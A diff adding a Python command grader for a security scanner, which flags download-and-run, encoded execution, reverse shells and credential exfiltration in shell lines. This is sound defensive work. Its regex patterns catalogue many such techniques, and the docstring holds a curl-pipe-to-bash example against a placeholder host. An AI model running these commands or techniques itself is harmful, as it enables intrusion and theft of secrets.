@@ -1,0 +1,659 @@
+"""One grader for a shell command line, wherever an agent would run one.
+
+`grade_command(command) -> list[CommandFact]` reads one command line (a hook, an MCP launcher,
+a status line, a task, a package script, a `!` line of a slash command, a line of a code block
+in prose, a line of a shell script) and reports what it would do that a reviewer must see:
+
+- download-and-run (`remote-exec`): a fetch piped or substituted into a shell or interpreter;
+  `iex`/`[scriptblock]::Create` of a download; `python -c` / `node -e` / `ruby -e` / `perl -e` /
+  `php -r` one-liners that fetch and evaluate; `deno run URL`; `npx`/`bunx`/`pnpm dlx`/`uvx`/
+  `pipx run` of a URL or git ref; download, chmod and run.
+- decode-and-run (`decode-exec`): base64/hex decoded into a shell or eval; `powershell -enc`.
+- reverse shells (`reverse-shell`): `/dev/tcp` wired to a shell, `nc -e`, `socat exec:`,
+  `openssl s_client` or `telnet` piped with a shell, python/perl/ruby/php socket one-liners.
+- credentials reaching the network (`credential-exfil`): env dumps, `git credential fill`,
+  `gh auth token`, keychain reads, cloud CLI tokens, credential files, secret variables reaching
+  curl/wget data, URLs, `-K` configs or headers, DNS lookups, mail, ftp, raw sockets, public
+  gists or paste services.
+
+Severity of running what a URL serves is decided by its host (scanner/hosts.py, the one place
+for host logic): a curated vendor installer over https is LOW; an unknown host is HIGH (so the
+Action's default `fail-on: high` stops it); plain http, a raw IP address or a paste/relay
+service is CRITICAL; a placeholder (example.com, localhost) is MEDIUM. See `grade_url`.
+
+The grader never runs anything. Patterns are RE2 (linear time); tree-sitter-bash (through
+shell_flow) adds what needs structure (variables, process substitution). Offsets in a
+CommandFact are character offsets into the command string given.
+
+API for callers (settings helper, prose rules, scripts):
+    facts = grade_command("curl -fsSL https://x.example/i.sh | bash")
+    for f in facts: f.kind, f.severity, f.start, f.end, f.message, f.host, f.url, f.grade
+    worst(facts) -> the most severe fact or None
+    grade(command) -> (severity, message) of the worst fact at medium or above, else None
+    grade_lines(text) -> grade_command over each candidate line of a longer text (offsets into text)
+    grade_url(url) -> (severity of running what the URL serves, grade, host)
+"""
+from __future__ import annotations
+
+from dataclasses import dataclass
+from functools import lru_cache
+
+from .. import hosts as H
+from ..matching import rx
+from ..models import Severity
+from . import common as c
+
+REMOTE_EXEC = c.REMOTE_EXEC
+DECODE_EXEC = c.DECODE_EXEC
+REVERSE_SHELL = c.REVERSE_SHELL
+CRED_EXFIL = c.CRED_EXFIL
+
+MAX_COMMAND = 8000  # characters of one command line read (a longer one is read up to this)
+
+
+@dataclass(frozen=True)
+class CommandFact:
+    kind: str  # one of scanner.scripts.common's kinds: remote-exec, decode-exec, reverse-shell, credential-exfil
+    severity: Severity
+    start: int  # character offsets into the command string
+    end: int
+    message: str
+    host: str = ""
+    url: str = ""
+    grade: str = ""  # vendor | unknown | http | ip | paste | placeholder | local | none
+
+
+# -- hosts --------------------------------------------------------------------------------------
+_PLACEHOLDER = ("example.com", "example.org", "example.net")
+_PLACEHOLDER_TLDS = (".example", ".test", ".invalid", ".localhost", ".local")
+
+
+def grade_url(url: str) -> tuple[Severity, str, str]:
+    """(severity of running what this URL serves, grade, host)."""
+    if not url:
+        return Severity.MEDIUM, "none", ""
+    host = H.host_of(url)
+    if not host:
+        return Severity.MEDIUM, "none", ""
+    if host in ("localhost", "0.0.0.0", "::1") or host.startswith("127."):
+        return Severity.LOW, "local", host
+    if H.is_ip(host):
+        return Severity.CRITICAL, "ip", host
+    if H.is_paste_or_relay(url):
+        return Severity.CRITICAL, "paste", host
+    if H.host_in(host, _PLACEHOLDER) or host.endswith(_PLACEHOLDER_TLDS) or "<" in url or "your" in host:
+        return Severity.MEDIUM, "placeholder", host
+    if H.is_vendor_installer(url):
+        return Severity.LOW, "vendor", host
+    if url.strip().lower().startswith(("http://", "ftp://")):
+        return Severity.CRITICAL, "http", host
+    if H.look_alike_brand(host):
+        return Severity.HIGH, "lookalike", host
+    if host == "github.com" and _VERSIONED_RELEASE.test(url):
+        return Severity.MEDIUM, "release", host  # a project's own versioned release asset: pinned, reviewable
+    return Severity.HIGH, "unknown", host
+
+
+_VERSIONED_RELEASE = rx(r"(?i)^https://github\.com/[\w.-]+/[\w.-]+/releases/download/v?(?:\d|\$\{?\w)[^/\s]*/")
+_GRADE_WORDS = {"lookalike": "look-alike of a well-known vendor's host", "release": "versioned GitHub release asset", "repository": "public repository, unpinned", "vendor": "well-known vendor installer", "unknown": "unknown host", "http": "unknown host over plain http",
+                "ip": "raw IP address", "paste": "paste or relay service", "placeholder": "placeholder host",
+                "local": "local address", "none": "URL not literal"}
+
+
+def grade_words(grade: str) -> str:
+    return _GRADE_WORDS.get(grade, grade)
+
+
+_URL = rx(r"(?i)\b(?:https?|ftp|wss?)://(?:[^\s'\"`<>)\]}|;$]|\$\{?\w+\}?)+")
+_GIT_REF = rx(r"(?i)(?:\bgit\+(?:https?|ssh|git)://[^\s'\"`]+|\bgit@[\w.-]+:[^\s'\"`]+|\b(?:github|gitlab|bitbucket):[\w.-]+/[^\s'\"`]+)")
+
+
+def _first_url(text: str) -> str:
+    m = _URL.search(text.encode("utf-8", "surrogatepass"))
+    return m.group(0).decode("utf-8", "replace") if m else ""
+
+
+def _ref_url(ref: str) -> str:
+    """A package-runner argument as a URL: `github:u/r` -> https://github.com/u/r."""
+    low = ref.lower()
+    for prefix, host in (("github:", "github.com"), ("gitlab:", "gitlab.com"), ("bitbucket:", "bitbucket.org")):
+        if low.startswith(prefix):
+            return f"https://{host}/{ref[len(prefix):]}"
+    if low.startswith("git+"):
+        return ref[4:]
+    if low.startswith("git@"):
+        host, _, path = ref[4:].partition(":")
+        return f"https://{host}/{path}"
+    return ref
+
+
+# -- patterns -----------------------------------------------------------------------------------
+_FETCH = r"(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c|lwp-request|lwp-download|xh|curlie|https?)"
+_PRE = r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:-\S+\s+)*(?:\w+=\S*\s+)*)?(?:/usr/local/bin/|/usr/bin/|/bin/)?"
+_INTERP = r"(?:(?:ba|z|k|da|fi|a)?sh|python[23]?(?:\.\d+)?|perl|ruby|node|nodejs|php|iex|invoke-expression|pwsh|powershell(?:\.exe)?|bun|deno|source)"
+
+# A fetch piped into an interpreter; group 1 = the fetch's arguments, group 2 = the interpreter, group 3 = its arguments.
+_PIPE = rx(r"(?i)\b" + _FETCH + r"\b([^\n|]*)\|(?:\s*(?:tee|cat|dd|gunzip|zcat|tr|sed)\b[^\n|]*\|)?\s*" + _PRE + r"(" + _INTERP + r")\b([^\n|;&]*)")
+_SUBST = rx(
+    r"(?i)(?:(?:^|[\s;&|({`])(?:(?:ba|z|k|da)?sh|source|\.|python[23]?|node|perl|ruby|php|pwsh)\s+(?:-\S+\s+)*<\(\s*" + _PRE + _FETCH + r"\b[^\n)]*\)"
+    r"|\b(?:(?:ba|z|k|da)?sh|source|\.|python[23]?|node|perl|ruby)\b[^\n]*<<<\s*[\"']?\$\(\s*" + _PRE + _FETCH + r"\b[^\n)]*\)"
+    r"|\b(?:(?:ba|z|k|da)?sh|eval|exec|source|python[23]?|perl|ruby|node|php)\s+(?:-\S+\s+)*[\"']?(?:\$\(|`)\s*" + _PRE + _FETCH + r"\b[^\n)`]*[)`]"
+    r"|\b(?:(?:ba|z|k|da)?sh)\s+-c\s+[\"']\s*" + _PRE + _FETCH + r"\b[^\n|\"']*\|\s*(?:ba|z|k|da)?sh\b)"
+)
+_PS_DOWNLOAD = r"(?:downloadstring|downloaddata|downloadfile|iwr|irm|invoke-webrequest|invoke-restmethod|net\.webclient|start-bitstransfer|httpclient)"
+_PS_EXEC = rx(
+    r"(?i)(?:\b(?:iex|invoke-expression)\b[^\n]*?\b" + _PS_DOWNLOAD + r"\b"
+    r"|\b" + _PS_DOWNLOAD + r"\b[^\n]*?(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\s+[\$(]|\[scriptblock\]::create|\binvoke-command\s+-scriptblock|\.invoke\(\))"
+    r"|\[scriptblock\]::create\s*\([^\n]*?\b" + _PS_DOWNLOAD + r"\b)"
+)
+_DOWNLOAD_RUN = rx(
+    r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n;|&]*\s(?:-o|-O|--output|--output-document|-outfile|>)\s*(\S+)[^\n]*?(?:&&|;)\s*"
+    r"(?:chmod\s+(?:\+x|[0-7]*[1357])\b[^\n]*?(?:&&|;)\s*(?:sudo\s+)?(?:\./|/|~/|\S+/)\S+|(?:sudo\s+)?(?:ba|z)?sh\s+\S+|(?:sudo\s+)?\./\S+|(?:sudo\s+)?(?:python[23]?|node|perl|ruby|pwsh|powershell)\s+\S+|&\s*\S+\.(?:ps1|exe|bat|cmd)|\.\\\S+|(?:call\s+|start\s+(?:\"\"\s+)?|start-process\s+)?\S+\.(?:bat|cmd|exe|ps1|msi)\b)"
+)
+_LOLBIN = rx(r"(?i)(?:\bmshta(?:\.exe)?\s+[\"']?(?:https?|vbscript|javascript):[^\s\"']*|\bregsvr32(?:\.exe)?\b[^\n]*?/i:\s*https?://[^\s\"']+|"
+             r"\bcertutil(?:\.exe)?\b[^\n]*?-urlcache\b[^\n]*?https?://[^\s\"']+[^\n]*?(?:&&|;|&)\s*\S+\.(?:exe|bat|cmd|ps1|dll)|"
+             r"\bbitsadmin\b[^\n]*?/transfer\b[^\n]*?https?://[^\s\"']+[^\n]*?(?:&&|;|&)\s*\S+\.(?:exe|bat|cmd|ps1))")
+_INSTALL_URL = rx(r"(?i)(?:^|[\s;&|(\"'`])((?:sudo\s+)?(?:npm\s+(?:i|install|add)|pnpm\s+(?:add|i|install)|yarn\s+(?:global\s+)?add|bun\s+(?:add|install|i)|"
+                  r"pip3?\s+install|python[23]?\s+-m\s+pip\s+install|uv\s+pip\s+install|pipx\s+install|uv\s+tool\s+install|gem\s+install|cargo\s+install))\b([^\n|;&]*)")
+# One-liner interpreters: the code argument is read for a fetch and an evaluation.
+_ONE_LINER = rx(r"(?i)\b(python[23]?(?:\.\d+)?|py|node|nodejs|bun|ruby|perl|php)(?:\.exe)?\b[^\n]*?\s(?:-c|-e|-E|-r|-p|--eval|--print)\b")
+_LANG_FETCH = {
+    "python": rx(r"(?i)(?:urlopen|urlretrieve|requests\s*\.\s*(?:get|post)|httpx|urllib|http\.client|aiohttp|pycurl)"),
+    "node": rx(r"(?i)(?:\bfetch\s*\(|https?\s*\.\s*get\s*\(|require\s*\(\s*['\"]https?['\"]\s*\)|\baxios\b|\bgot\s*\(|\bundici\b)"),
+    "ruby": rx(r"(?i)(?:open-uri|uri\s*\.\s*open|uri\s*\(|net::http|\bopen\s*\(\s*['\"]https?:|httparty|faraday)"),
+    "perl": rx(r"(?i)(?:\blwp\b|lwp::|http::tiny|\bgetstore\b|\bget\s*\(\s*['\"]https?:|\bget\s+['\"]https?:)"),
+    "php": rx(r"(?i)(?:file_get_contents\s*\(\s*['\"]https?:|curl_exec|fopen\s*\(\s*['\"]https?:|\bhttps?://)"),
+}
+_LANG_EXEC = {
+    "python": rx(r"(?:\bexec\s*\(|\beval\s*\(|\bcompile\s*\(|\brunpy\b|exec_module)"),
+    "node": rx(r"(?i)(?:\beval\b|new\s+function\b|\bfunction\s*\(\s*\w*\s*\)\s*\(|\bvm\s*\.|runinthiscontext|import\s*\(\s*['\"`]data:)"),
+    "ruby": rx(r"(?:\beval\b|instance_eval|class_eval|module_eval|binding\.eval)"),
+    "perl": rx(r"(?:\beval\b|\bdo\s*\()"),
+    "php": rx(r"(?i)(?:\beval\s*\(|\binclude\s*\(?\s*['\"]https?:|\brequire\s*\(?\s*['\"]https?:|\bassert\s*\()"),
+}
+_LANG_SEND = {
+    "python": rx(r"(?:urlopen\s*\([^\n]*data\s*=|requests\s*\.\s*(?:post|put)|httpx\s*\.\s*(?:post|put)|\.sendall?\s*\(|smtplib|ftplib|gethostbyname\s*\()"),
+    "node": rx(r"(?i)(?:method\s*:\s*['\"]post|\bbody\s*:|https?\s*\.\s*request\s*\(|\.write\s*\(|dns\s*\.\s*(?:resolve|lookup))"),
+    "ruby": rx(r"(?i)(?:net::http\s*\.\s*post|post_form|tcpsocket|net::smtp|\.puts\s*\()"),
+    "perl": rx(r"(?i)(?:->\s*post\s*\(|io::socket|net::smtp|\bsend\s*\()"),
+    "php": rx(r"(?i)(?:curlopt_postfields|fsockopen|\bmail\s*\(|stream_context_create)"),
+}
+_LANG_SECRETS = {
+    "python": rx(r"(?:os\s*\.\s*environ\b(?:\s*\.\s*(?:items|copy)|\s*\)|\s*,)|dict\s*\(\s*os\s*\.\s*environ|\.ssh/|\.aws/|\.netrc|\.npmrc|\.git-credentials|\.env['\"])"),
+    "node": rx(r"(?:JSON\s*\.\s*stringify\s*\(\s*process\s*\.\s*env|\.\.\.\s*process\s*\.\s*env|process\s*\.\s*env\s*[,)}]|\.ssh/|\.aws/|\.netrc|\.npmrc)"),
+    "ruby": rx(r"(?:ENV\s*\.\s*(?:to_h|to_a|inspect|map)|\.ssh/|\.aws/|\.netrc|\.npmrc)"),
+    "perl": rx(r"(?:%ENV|\.ssh/|\.aws/|\.netrc|\.npmrc)"),
+    "php": rx(r"(?i)(?:getenv\s*\(\s*\)|\$_ENV\b|\$_SERVER\b|\.ssh/|\.aws/|\.netrc)"),
+}
+_LANG_DECODE = {
+    "python": rx(r"(?:b64decode|decodebytes|a2b_base64|unhexlify|fromhex|zlib\.decompress|codecs\.decode|marshal\.loads)"),
+    "node": rx(r"(?i)(?:\batob\s*\(|buffer\.from\s*\([^)]*['\"](?:base64|hex)['\"])"),
+    "ruby": rx(r"(?i)(?:base64\.decode64|unpack\s*\(?\s*['\"]m)"),
+    "perl": rx(r"(?i)(?:decode_base64|pack\s*\(?\s*['\"]h)"),
+    "php": rx(r"(?i)(?:base64_decode|gzinflate|str_rot13|hex2bin)"),
+}
+_LANG_SOCKET = {
+    "python": (rx(r"\bsocket\b"), rx(r"(?:dup2|pty\.spawn|subprocess|/bin/(?:ba)?sh|os\.system|popen)")),
+    "node": (rx(r"(?i)(?:net\s*\.\s*(?:socket|connect|createconnection)|require\s*\(\s*['\"]net['\"]\s*\))"), rx(r"(?i)(?:child_process|spawn\s*\(|/bin/(?:ba)?sh|cmd\.exe)")),
+    "ruby": (rx(r"(?i)(?:tcpsocket|socket\.new|-rsocket)"), rx(r"(?i)(?:\bexec\b|\bspawn\b|/bin/(?:ba)?sh|\bsystem\b|popen|io\.popen)")),
+    "perl": (rx(r"(?i)(?:\bsocket\s*\(|io::socket|-msocket)"), rx(r"(?i)(?:\bexec\b|/bin/(?:ba)?sh|\bsystem\b|open\s*\(\s*std)")),
+    "php": (rx(r"(?i)(?:fsockopen|socket_create|stream_socket_client)"), rx(r"(?i)(?:\bexec\s*\(|shell_exec|proc_open|\bsystem\s*\(|passthru|popen|/bin/(?:ba)?sh)")),
+}
+_RUNNER = rx(r"(?i)(?:^|[\s;&|(\"'`])(npx|bunx|pnpx|pnpm\s+dlx|yarn\s+dlx|npm\s+exec|npm\s+x|uvx|pipx\s+run|uv\s+tool\s+run|deno\s+(?:run|install|eval|serve|x)|bun\s+(?:run|x))\b([^\n|;&]*)")
+_DECODE = rx(
+    r"(?i)(?:\b(?:base64|base32)\s+(?:-\w*d\w*|--decode|-D)\b[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl|ruby|node|php|iex|pwsh|powershell|eval|source)\b"
+    r"|\b(?:(?:ba|z|k|da)?sh|eval|source)\s+(?:-c\s+)?[\"']?\$\(\s*(?:echo|printf|cat)\s[^\n)]*\|\s*(?:base64|base32|xxd)\s+-\w*[dr]"
+    r"|\bxxd\s+-r\s+-?p?\b[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl)\b"
+    r"|\bprintf\s+[\"']?(?:\\x[0-9a-f]{2}){6,}[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl)\b"
+    r"|\b(?:openssl\s+(?:base64|enc)\s[^\n|]*-d|uudecode|gunzip\s+-c|zcat)\b[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl)\b"
+    r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*?\s-(?:e|ec|en|enc|enco|encodedcommand)\s+[a-z0-9+/=]{20,}"
+    r"|\bfrombase64string\b[^\n]*?\b(?:iex|invoke-expression|\[scriptblock\]::create)|\b(?:iex|invoke-expression)\b[^\n]*?\bfrombase64string\b)"
+)
+# Reverse shells.
+_DEV_TCP = rx(r"(?i)/dev/(?:tcp|udp)/[^\s/]+/\S+")
+_DEV_TCP_SHELL = rx(r"(?i)(?:\b(?:ba|z|k|da)?sh\s+-i\b|0>&1|0<&\d|>&\s*/dev/tcp|<&\s*\d|\bexec\s+\d*<>|\bwhile\s+read\b|\beval\b|\$\(\s*cat\s*<&)")
+_NC_EXEC = rx(r"(?i)\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^\n|;&]*\s(?:-e|-c|--exec|--sh-exec|--lua-exec)\s")
+_PIPE_SHELL_NET = rx(
+    r"(?i)(?:(?:^|[\s|;&(`])(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh(?:\s+-i)?\b[^\n|]*\|\s*" + _PRE + r"(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b"
+    r"|\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s[^\n|]*\|\s*" + _PRE + r"(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh\b(?:\s+-i)?(?:\s*2>&1)?(?:\s*[|>])?)"
+)
+_FIFO = rx(r"(?i)\bmkfifo\b[^\n]*\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b")
+_SHELL_WORD = rx(r"(?i)(?:^|[\s|;&(])(?:/bin/)?(?:ba|z|k|da)?sh\b")
+_FIFO_PATH = rx(r"(?i)\bmkfifo\s+(?:-m\s+\S+\s+)?['\"]?([^\s'\";&|]+)")
+_SOCAT = rx(r"(?i)\bsocat\b[^\n]*\b(?:exec|system):[^\n]*?(?:tcp|ssl|openssl|udp)|\bsocat\b[^\n]*\b(?:tcp|ssl|openssl|udp)[^\n]*?\b(?:exec|system):")
+_AWK_INET = rx(r"(?i)/inet/tcp/\d+/[^\s/]+/\d+[^\n]*(?:getline|\|&)")
+_PS_REVERSE = rx(r"(?i)net\.sockets\.tcpclient\b[^\n]*?(?:getstream|iex|invoke-expression)")
+
+# Credential sources (strong: reading one is reading a secret).
+_CRED_COMMAND = rx(
+    r"(?i)(?:\bgit\s+credential(?:-\w+)?\s+(?:fill|get)\b|\bgh\s+auth\s+token\b|\bgh\s+auth\s+status\s+(?:-t|--show-token)\b"
+    r"|\bsecurity\s+(?:find-generic-password|find-internet-password|dump-keychain)\b|\bsecret-tool\s+lookup\b"
+    r"|\baws\s+configure\s+(?:export-credentials|get\s+\S*(?:secret|token|key))|\baws\s+sts\s+get-session-token\b|\baws\s+ecr\s+get-login-password\b"
+    r"|\bgcloud\s+(?:auth\s+)?(?:application-default\s+)?print-(?:access|identity)-token\b|\baz\s+account\s+get-access-token\b"
+    r"|\bkubectl\s+config\s+view\b[^\n|]*--raw|\bop\s+(?:read|item\s+get)\b|\bvault\s+(?:kv\s+get|read)\b|\bpass\s+show\b|\bkeyring\s+get\b"
+    r"|\bnpm\s+token\s+(?:list|ls)\b|\bcmdkey\s+/list\b|\bdocker-credential-\w+\s+get\b|/proc/self/environ)"
+)
+_ENV_DUMP = rx(
+    r"(?i)(?:(?:^|[|;&(`]|\$\()\s*(?:(?:env|printenv)\s*(?:$|[|)`>;&])|(?:set|export\s+-p|declare\s+-x)\s*\|)"
+    r"|\b(?:get-childitem|gci|dir|ls)\s+env:|\[environment\]::getenvironmentvariables|\bos\.environ\b|process\.env\s*[)}\]]|json\.stringify\s*\(\s*process\.env)"
+)
+_SECRET_VAR = rx(r"(?:\$\{?([A-Za-z_][A-Za-z0-9_]*)|\$env:([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%)")
+_PATHLIKE = rx(r"(?:~|\$HOME|\$\{HOME\}|\$env:USERPROFILE|%USERPROFILE%|/)[^\s'\"`|;&<>()]*|\.env(?:\.\w+)?\b|[\w.-]*credentials[\w.-]*")
+# Network sinks: (pattern, what it is).
+_CMD_POS = r"(?:^|[|;&(`{]|\$\()\s*(?:(?:sudo|exec|command|time|nohup|then|do)\s+(?:-\S+\s+)*)?"
+_SINKS = (
+    (rx(r"(?i)\b(?:curl|wget|xh|curlie|invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n|;&]*|" + _CMD_POS + r"https?\s[^\n|;&]*"), "http"),
+    (rx(r"(?i)(?:\b(?:dig|nslookup|drill|resolvectl\s+query|resolve-dnsname)\s|" + _CMD_POS + r"host\s)[^\n|;&]*"), "dns"),
+    (rx(r"(?i)(?:\b(?:sendmail|mutt|swaks|send-mailmessage|msmtp)\b|" + _CMD_POS + r"mailx?\s)[^\n|;&]*"), "mail"),
+    (rx(r"(?i)(?:\b(?:lftp|tftp|ncftpput)\b|" + _CMD_POS + r"ftp\s)[^\n|;&]*"), "ftp"),
+    (rx(r"(?i)\b(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client)\b[^\n|;&]*"), "socket"),
+    (rx(r"(?i)\bgh\s+gist\s+create\b[^\n|;&]*"), "gist"),
+    (rx(r"(?i)\b(?:scp|rsync|sftp)\b[^\n|;&]*\s[\w.@-]+:[^\n|;&]*"), "copy"),
+    (rx(r"(?i)\b(?:aws\s+s3\s+(?:cp|sync|mv)|gsutil\s+(?:cp|rsync)|rclone\s+(?:copy|sync|move)|az\s+storage\s+blob\s+upload|smbclient)\b[^\n|;&]*"), "copy"),
+)
+_DATA_FLAG = rx(r"(?i)(?:^|\s)(?:-d|--data(?:-binary|-raw|-ascii|-urlencode)?|-F|--form(?:-string)?|-T|--upload-file|--json|--post-(?:file|data)|--body-(?:file|data)|-body|-infile|-K|--config|-attachments?|-a|-A)(?:\s|=|$)")
+_HEADER_FLAG = rx(r"(?i)(?:^|\s)(?:-H|--header|-headers|-u|--user)(?:\s|=)")
+_GATE = rx(
+    r"(?i)(?:curl|wget|fetch|iwr|irm|invoke-|webclient|http|python|node|bun|ruby|perl|php|deno|npx|bunx|pnpx|dlx|uvx|pipx|npm|"
+    r"base64|base32|xxd|printf|openssl|uudecode|zcat|gunzip|frombase64|/dev/tcp|/dev/udp|nc\b|ncat|netcat|socat|telnet|mkfifo|"
+    r"tcpclient|credential|gh\s|security|secret|aws|gcloud|az\s|kubectl|op\s|vault|pass\s|keyring|token|env|set\b|\$|%|"
+    r"dig|nslookup|drill|host|resolve|mail|swaks|ftp|scp|rsync|gist|mshta|regsvr32|certutil|bitsadmin|install|/inet/|s3|gsutil|rclone|smbclient)"
+)
+
+_LANG = {"python": "python", "py": "python", "node": "node", "nodejs": "node", "bun": "node", "ruby": "ruby", "perl": "perl", "php": "php"}
+_CODE_FLAGS = ("-c", "-m", "-e", "-E", "-p", "-r", "--eval", "--print", "--version", "-V", "-h", "--help", "-File", "-file", "-f")
+
+
+_CRED_COMMAND_VENDOR = (("gh ", "gh_token"), ("aws ", "aws"), ("gcloud ", "google"), ("az ", "azure"),
+                        ("npm token", "npm_token"), ("docker-credential", ""), ("git credential", ""))
+
+
+def credential_command_goes_home(text: str, url: str) -> bool:
+    """`curl -H "Authorization: token $(gh auth token)" https://api.github.com`: a CLI's own token sent to its vendor."""
+    low = text.lower()
+    vendors = [v for k, v in _CRED_COMMAND_VENDOR if k in low]
+    return bool(vendors) and all(v and H.credential_goes_home(v, url) for v in vendors)
+
+
+def _b2c(command: str, data: bytes):
+    if len(data) == len(command):
+        return lambda b: b
+    return lambda b: len(data[:b].decode("utf-8", "replace"))
+
+
+def _in_header(d: bytes, s0: int, at: int) -> bool:
+    """Is byte `at` inside a -H/--header (or -u/--user) value of the command starting at s0?"""
+    before = d[s0:at]
+    i = max(before.rfind(b" -H "), before.rfind(b" --header "), before.rfind(b" -u "), before.rfind(b" --user "), before.rfind(b" --header="))
+    if i < 0:
+        return False
+    between = before[i + 3:]
+    return between.count(b'"') % 2 == 1 or between.count(b"'") % 2 == 1 or b" -" not in between.strip()
+
+
+def grade(command: str, floor: Severity = Severity.MEDIUM) -> tuple[Severity, str] | None:
+    """(severity, message) of the worst thing `command` would do, or None below `floor`: the
+    drop-in for rules/agent_config.grade_command (hooks, statusLine, MCP launchers, tasks)."""
+    w = worst(grade_command(command))
+    if w is None or w.severity < floor:
+        return None
+    return w.severity, w.message
+
+
+def worst(facts):
+    return max(facts, key=lambda f: f.severity, default=None)
+
+
+def grade_command(command: str) -> list[CommandFact]:
+    """What running `command` would do, by kind, with offsets into `command`. Never raises on odd text."""
+    if len(command) <= 400:
+        return list(_grade_cached(command))  # short commands repeat (hooks, the same install line): cached
+    return _grade(command)
+
+
+@lru_cache(maxsize=512)
+def _grade_cached(command: str) -> tuple[CommandFact, ...]:
+    return tuple(_grade(command))
+
+
+def _grade(command: str) -> list[CommandFact]:
+    command = command[:MAX_COMMAND]
+    if not command.strip():
+        return []
+    data = command.encode("utf-8", "surrogatepass")
+    if not _GATE.search(data):
+        return []
+    g = _Grader(command, data)
+    try:
+        g.run()
+    except (RecursionError, MemoryError, ValueError):  # pragma: no cover - defensive on hostile text
+        pass
+    return g.result()
+
+
+class _Grader:
+    def __init__(self, command: str, data: bytes) -> None:
+        self.command = command
+        self.data = data
+        self.pos = _b2c(command, data)
+        self.facts: list[CommandFact] = []
+
+    def add(self, kind: str, b0: int, b1: int, message: str, severity: Severity, url: str = "", grade: str = "", host: str = "") -> None:
+        self.facts.append(CommandFact(kind, severity, self.pos(b0), max(self.pos(b1), self.pos(b0) + 1), message, host, url[:300], grade))
+
+    def text(self, m, group: int = 0) -> str:
+        return m.group(group).decode("utf-8", "replace") if m.group(group) is not None else ""
+
+    def remote(self, m, message: str, url: str = "", b0: int | None = None, b1: int | None = None) -> None:
+        if not url:
+            eol = self.data.find(b"\n", m.end())
+            url = _first_url(self.text(m)) or _first_url(self.data[m.start():len(self.data) if eol < 0 else eol].decode("utf-8", "replace"))
+        sev, grade, host = grade_url(url)
+        self.add(REMOTE_EXEC, m.start() if b0 is None else b0, m.end() if b1 is None else b1,
+                 f"{message} ({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
+
+    def run(self) -> None:
+        self.downloads()
+        self.one_liners()
+        self.runners()
+        self.installs()
+        self.decodes()
+        self.reverse_shells()
+        self.credentials()
+        self.structure()
+
+    # -- download and run ------------------------------------------------------------------
+    def downloads(self) -> None:
+        d = self.data
+        for m in _PIPE.finditer(d):
+            interp = self.text(m, 2).lower()
+            rest = self.text(m, 3).split()
+            if interp not in ("iex", "invoke-expression", "source") and rest:
+                if rest[0] in _CODE_FLAGS or rest[0].lower() in ("-command",) and len(rest) > 1 and rest[1] != "-":
+                    continue  # `curl ... | python3 -c "import json..."`: the program is the argument, the download is data
+                positional = [r for r in rest if not r.startswith("-")]
+                if positional and positional[0] not in ("-",) and "-s" not in rest and interp not in ("pwsh", "powershell", "powershell.exe"):
+                    continue  # `| bash script.sh`: stdin is data for the script
+            self.remote(m, f"Download piped into {interp}")
+        for m in _SUBST.finditer(d):
+            self.remote(m, "Download run through a command or process substitution")
+        for m in _PS_EXEC.finditer(d):
+            self.remote(m, "PowerShell runs downloaded text as code")
+        for m in _DOWNLOAD_RUN.finditer(d):
+            self.remote(m, "File downloaded, then run")
+
+    def one_liners(self) -> None:
+        for m in _ONE_LINER.finditer(self.data):
+            lang = _LANG.get(self.text(m, 1).lower().rstrip("0123456789."))
+            if lang is None:
+                continue
+            end = self.data.find(b"\n", m.end())
+            end = len(self.data) if end < 0 else end
+            seg = self.data[m.start():end]
+            fetch, run, decode = _LANG_FETCH[lang].search(seg), _LANG_EXEC[lang].search(seg), _LANG_DECODE[lang].search(seg)
+            sock, shell = _LANG_SOCKET[lang]
+            if fetch and run:
+                self.remote(m, f"{lang} one-liner fetches code and evaluates it", url=_first_url(seg.decode("utf-8", "replace")), b1=end)
+            elif decode and run:
+                self.add(DECODE_EXEC, m.start(), end, f"{lang} one-liner decodes hidden code and evaluates it", Severity.CRITICAL)
+            if _LANG_SEND[lang].search(seg) and _LANG_SECRETS[lang].search(seg):
+                url = _first_url(seg.decode("utf-8", "replace"))
+                _, grade, host = grade_url(url)
+                self.add(CRED_EXFIL, m.start(), end, f"{lang} one-liner sends the environment or a credential file ({grade_words(grade)}{': ' + host if host else ''})",
+                         Severity.CRITICAL, url, grade, host)
+            if sock.search(seg) and shell.search(seg):
+                self.add(REVERSE_SHELL, m.start(), end, f"{lang} one-liner wires a network socket to a shell", Severity.CRITICAL)
+
+    def runners(self) -> None:
+        for m in _RUNNER.finditer(self.data):
+            runner = " ".join(self.text(m, 1).split()).lower()
+            args = self.text(m, 2).split()
+            target = ""
+            expect_value = False
+            for a in args:
+                a = a.strip("'\"`.,;)")
+                if a in ("--from", "--spec", "--package", "-p", "--with"):
+                    expect_value = True
+                    continue
+                if "=" in a and a.startswith("--"):
+                    a = a.split("=", 1)[1]
+                elif a.startswith("-"):
+                    continue
+                low = a.lower()
+                if low.startswith(("http://", "https://")) or _GIT_REF.search(a.encode("utf-8", "surrogatepass")):
+                    target = a
+                    break
+                if runner.startswith(("npx", "bunx", "pnpx", "pnpm", "yarn", "npm")) and "/" in a and "#" in a and not a.startswith("@"):
+                    target = "github:" + a  # `npx user/repo#ref` fetches from GitHub
+                    break
+                if not expect_value:
+                    break  # the package or script to run is a registry name or a local file: not this grader's concern
+                expect_value = False
+            if not target:
+                continue
